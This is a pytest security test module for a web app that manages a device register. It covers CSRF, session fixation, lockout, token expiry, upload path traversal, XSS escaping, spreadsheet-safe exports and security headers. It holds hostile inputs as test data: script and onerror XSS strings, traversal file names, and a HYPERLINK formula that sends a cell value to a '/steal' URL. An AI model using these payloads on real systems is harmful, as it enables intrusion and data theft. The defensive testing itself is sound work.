"""Security: CSRF, session fixation, brute-force lockout, token revocation and expiry, path traversal in upload
names, XSS through device names and register cells (pages escaped, exports safe for spreadsheets), oversized
uploads (413 problem+json), and the security headers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from schoon.audit import Store
from schoon.web.auth import NONCE_COOKIE, SESSION_COOKIE
from tests.web.webworld import Served, served_world, upload_register, wait_for_job
from tests.web.world import PASSWORD

XSS_NAME = '<script>alert("xss")</script>'
XSS_INVENTORY = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"klik")'


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served_world("sqlite", tmp_path_factory.mktemp("security"), max_upload_bytes=64 * 1024,
                      max_upload_files=3) as world:
        yield world


def csrf_of(page: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', page)
    assert match, "no CSRF field in the form"
    return match.group(1)


def login(served: Served, email: str, password: str, planted: str | None = None) -> Any:
    client = served.client
    client.cookies.clear()
    if planted:
        client.cookies.set(SESSION_COOKIE, planted)
    page = client.get("/login")
    return client.post("/login", data={"email": email, "password": password, "csrf": csrf_of(page.text),
                                       "next": "/"}, follow_redirects=False)


def with_session(served: Served, value: str) -> Any:
    served.as_user(None)
    served.client.cookies.set(SESSION_COOKIE, value)
    return served.client


def flagged_device(served: Served, tree: str = "alfa") -> int:
    store = Store.open(served.world.url)
    try:
        ids = [int(d["id"]) for org in served.world.orgs[tree] for d in store.devices(org, verdict="flagged")
               if d["state"] in (None, "in_use")]
    finally:
        store.close()
    assert ids
    return ids[0]


# -- CSRF ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("token", [None, "wrong-token", ""])
def test_form_without_the_right_csrf_token_is_refused(served: Served, token: str | None) -> None:
    device = flagged_device(served)
    data = {"state": "scheduled", "on_date": "2027-03-01"}
    if token is not None:
        data["csrf"] = token
    answer = served.as_user("alfa/editor").post(f"/devices/{device}/move", data=data, follow_redirects=False)
    assert answer.status_code == 403
    assert "csrf" in answer.text.lower()
    with Store.open(served.world.url).read() as conn:
        state = conn.execute(sa.text("select state from devices where id = :i"), {"i": device}).scalar()
    assert state in (None, "in_use")


def test_another_sessions_csrf_token_is_refused(served: Served) -> None:
    device = flagged_device(served)
    answer = served.as_user("alfa/editor").post(f"/devices/{device}/move",
                                data={"state": "scheduled", "on_date": "2027-03-01",
                                      "csrf": served.sessions["alfa/org-admin"][1]}, follow_redirects=False)
    assert answer.status_code == 403


def test_cookie_authenticated_api_write_needs_the_csrf_header(served: Served) -> None:
    device = flagged_device(served)
    body = {"state": "scheduled", "date": "2027-03-01"}
    refused = served.as_user("alfa/editor").post(f"/api/v1/devices/{device}/moves", json=body)
    assert refused.status_code == 403
    assert refused.headers["content-type"].startswith("application/problem+json")


def test_login_form_posted_without_its_csrf_cookie_is_refused(served: Served) -> None:
    served.as_user(None)
    answer = served.client.post("/login", data={"email": "viewer@alfa-leak.test", "password": PASSWORD,
                                                "csrf": "0" * 64}, follow_redirects=False)
    assert answer.status_code == 403
    assert SESSION_COOKIE not in answer.cookies


# -- sessions -----------------------------------------------------------------------------------------------


def test_session_id_changes_at_login_and_a_planted_one_is_worthless(served: Served) -> None:
    planted = "attacker-chose-this-session-id-0123456789"
    answer = login(served, "viewer@alfa-leak.test", PASSWORD, planted=planted)
    assert answer.status_code == 303
    issued = answer.cookies.get(SESSION_COOKIE)
    assert issued and issued != planted
    cookie = answer.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    assert with_session(served, planted).get("/", follow_redirects=False).status_code == 303
    assert with_session(served, issued).get("/", follow_redirects=False).status_code == 200
    again = login(served, "viewer@alfa-leak.test", PASSWORD, planted=issued)
    second = again.cookies.get(SESSION_COOKIE)
    assert second and second != issued
    # the session the second login replaced has ended
    assert with_session(served, issued).get("/", follow_redirects=False).status_code == 303


def test_logout_ends_the_session(served: Served) -> None:
    answer = login(served, "editor@alfa-leak.test", PASSWORD)
    issued = answer.cookies.get(SESSION_COOKIE)
    assert issued
    page = with_session(served, issued).get("/")
    with_session(served, issued).post("/logout", data={"csrf": csrf_of(page.text)}, follow_redirects=False)
    assert with_session(served, issued).get("/", follow_redirects=False).status_code == 303


def test_brute_force_locks_the_address_out(served: Served) -> None:
    email = "org-admin@bravo-leak.test"
    statuses = [login(served, email, f"wrong-password-{n}").status_code for n in range(5)]
    assert statuses == [401] * 5
    locked = login(served, email, PASSWORD)  # the right password, while the lock lasts
    assert locked.status_code == 401 and SESSION_COOKIE not in locked.cookies
    other = login(served, "viewer@bravo-leak.test", PASSWORD)  # the lock is per address
    assert other.status_code == 303 and other.cookies.get(SESSION_COOKIE)
    # an unknown address is throttled the same way and says nothing about existing
    unknown = [login(served, "nobody@bravo-leak.test", "x" * 12) for _ in range(2)]
    assert all(a.status_code == 401 for a in unknown)


# -- tokens -------------------------------------------------------------------------------------------------


def test_revoked_token_is_refused(served: Served) -> None:
    from schoon.accounts.service import Accounts

    store = Store.open(served.world.url)
    accounts = Accounts(store)
    token_id, secret = accounts.create_token("viewer@alfa-leak.test", 5)
    headers = {"Authorization": f"Bearer {secret}"}
    served.as_user(None)
    assert served.client.get("/api/v1/me", headers=headers).status_code == 200
    accounts.revoke_token(token_id)
    refused = served.client.get("/api/v1/me", headers=headers)
    assert refused.status_code == 401
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert "www-authenticate" in refused.headers
    store.close()


def test_expired_token_is_refused(served: Served) -> None:
    from schoon.accounts.service import Accounts

    store = Store.open(served.world.url)
    token_id, secret = Accounts(store).create_token("viewer@alfa-leak.test", 1)
    headers = {"Authorization": f"Bearer {secret}"}
    served.as_user(None)
    assert served.client.get("/api/v1/me", headers=headers).status_code == 200
    with store.write() as conn:
        conn.execute(sa.text("update api_tokens set expires_at = '2020-01-01T00:00:00Z' where id = :i"),
                     {"i": token_id})
    store.close()
    assert served.client.get("/api/v1/me", headers=headers).status_code == 401
    assert served.client.get("/api/v1/me", headers={"Authorization": "Bearer schoon_madeup"}).status_code == 401


# -- uploads ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../../escaped.csv", "..\\..\\escaped.csv", "/tmp/escaped.csv",
                                  "sub/../../escaped.csv", "escaped.csv\x00.xml"])
def test_upload_names_never_become_paths(served: Served, name: str, tmp_path: Path) -> None:
    upload_dir = served.app.state.schoon.upload_dir
    before = {p.name for p in upload_dir.iterdir()}
    text = f"Inventarisnummer;Merk\nALFA-LEAK-TRAV-{abs(hash(name)) % 10000};Axis\n"
    served.as_user(None)
    answer = upload_register(served.client, served.bearer("alfa/editor"), "alfa-org", text, name=name)
    assert answer.status_code == 202, answer.text
    wait_for_job(served.client, served.bearer("alfa/editor"), str(answer.json()["id"]))
    added = {p.name for p in upload_dir.iterdir()} - before
    assert added, "the upload was not stored"
    assert all(re.fullmatch(r"[0-9a-f]{64}(\.[a-z.]+)?", n) for n in added), added
    root = upload_dir.parent
    assert not list(root.rglob("escaped.csv*")) and not Path("/tmp/escaped.csv").exists()


def test_oversized_upload_is_413_problem_json(served: Served) -> None:
    big = "Inventarisnummer;Merk\n" + "ALFA-LEAK-BIG;Axis\n" * 5000  # > 64 KiB
    served.as_user(None)
    answer = upload_register(served.client, served.bearer("alfa/editor"), "alfa-org", big)
    assert answer.status_code == 413
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert answer.json()["status"] == 413
    assert not [p for p in served.app.state.schoon.upload_dir.iterdir() if p.name.startswith(".part-")]


def test_too_many_files_is_413(served: Served) -> None:
    files = [("files", (f"r{n}.csv", f"Inventarisnummer;Merk\nALFA-LEAK-N{n};Axis\n".encode(), "text/csv"))
             for n in range(4)]
    served.as_user(None)
    answer = served.client.post("/api/v1/snapshots", headers=served.bearer("alfa/editor"),
                                data={"org": "alfa-org"}, files=files)
    assert answer.status_code == 413
    assert answer.headers["content-type"].startswith("application/problem+json")


# -- XSS and spreadsheet formulas ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_device(served: Served) -> int:
    """A device whose hostname, inventory number and supplier are hostile, uploaded like any register."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["Inventarisnummer", "Locatie", "Hostnaam", "Merk", "Typenummer", "Leverancier", "MAC-adres"])
    writer.writerow([XSS_INVENTORY, "alfa-leak hoofdkantoor", XSS_NAME, "Hikvision", "DS-2CD2043G2-I", FORMULA,
                     "44:19:b6:99:99:01"])
    text = out.getvalue()
    served.as_user(None)
    answer = upload_register(served.client, served.bearer("alfa/editor"), "alfa-org", text, name="hostile.csv")
    assert answer.status_code == 202
    job = wait_for_job(served.client, served.bearer("alfa/editor"), str(answer.json()["id"]))
    assert job["state"] == "done", job
    store = Store.open(served.world.url)
    try:
        with store.read() as conn:
            found = conn.execute(sa.text("select id from devices where asset_id = :a"), {"a": XSS_INVENTORY}).scalar()
    finally:
        store.close()
    assert found is not None
    return int(found)


def test_pages_escape_hostile_device_data(served: Served, hostile_device: int) -> None:
    client = served.as_user("alfa/viewer")
    for url in (f"/devices/{hostile_device}", "/devices?verdict=flagged", "/devices?q=alert"):
        page = client.get(url)
        assert page.status_code == 200, url
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, url
    detail = client.get(f"/devices/{hostile_device}").text
    assert "&lt;script&gt;alert" in detail or "&lt;img src=x" in detail


def test_csv_and_xlsx_exports_are_safe_in_spreadsheets(served: Served, hostile_device: int) -> None:
    client = served.as_user("alfa/viewer")
    exported = client.get("/devices/export.csv", params={"q": "alert"})
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";" if ";" in
                           exported.text.splitlines()[0] else ","))
    cells = [c for row in rows[1:] for c in row]
    assert cells, "the export is empty"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    book = client.get("/devices/export.xlsx", params={"q": "alert"})
    assert book.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).worksheets[0]
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert values and not [c.coordinate for c in values if c.data_type == "f"]


def test_json_api_returns_hostile_text_as_data(served: Served, hostile_device: int) -> None:
    served.as_user(None)
    answer = served.client.get(f"/api/v1/devices/{hostile_device}", headers=served.bearer("alfa/viewer"))
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/json")
    assert XSS_NAME in answer.text.replace("\\", "") or XSS_INVENTORY.replace('"', '\\"') in answer.text


# -- headers ------------------------------------------------------------------------------------------------


def test_security_headers_on_pages_and_api(served: Served) -> None:
    served.as_user(None)
    for answer in (served.client.get("/login"), served.client.get("/api/v1/me", headers=served.bearer("alfa/viewer"))):
        csp = answer.headers["content-security-policy"]
        assert "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert NONCE_COOKIE in served.client.get("/login").cookies or served.client.cookies.get(NONCE_COOKIE)


def test_errors_carry_no_stack_trace(served: Served) -> None:
    served.as_user(None)
    answer = served.client.get("/api/v1/devices/not-a-number", headers=served.bearer("alfa/viewer"))
    assert answer.status_code == 422
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert "Traceback" not in answer.text and "File \"" not in answer.text
